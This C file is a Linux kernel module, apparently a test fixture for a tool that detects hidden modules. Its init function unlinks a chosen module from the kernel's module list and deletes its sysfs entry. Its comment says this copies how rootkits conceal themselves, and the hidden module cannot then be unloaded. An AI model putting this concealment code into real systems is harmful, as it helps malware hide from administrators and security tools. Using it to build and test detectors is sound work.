//go:build ignore

/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/*
 * A module whose init removes a module from the kernel's list and, if kobject_offset is
 * set, removes that module's folder from sysfs, as rootkits do with themselves. The
 * module can then not be unloaded.
 */
#include "module.h"

#define UNSET 1

/* Build sets these. */
volatile unsigned long list_offset = UNSET;    /* of list in struct module */
volatile unsigned long kobject_offset = UNSET; /* of mkobj.kobj; if unset, the folder stays */
volatile unsigned long target = UNSET;         /* address of the struct module to hide; if unset, of this one */

struct list_head {
	struct list_head *next, *prev;
};

extern void kobject_del(void *kobject);

int init_module(void)
{
	char *module = target == UNSET ? (char *)&this_module : (char *)target;
	struct list_head *node = (struct list_head *)(module + list_offset);

	if (list_offset != UNSET) {
		node->prev->next = node->next;
		node->next->prev = node->prev;
		node->next = node;
		node->prev = node;
	}
	if (kobject_offset != UNSET)
		kobject_del(module + kobject_offset);
	return target == UNSET ? 0 : -19; /* -ENODEV: the kernel frees the helper */
}

void cleanup_module(void)
{
}
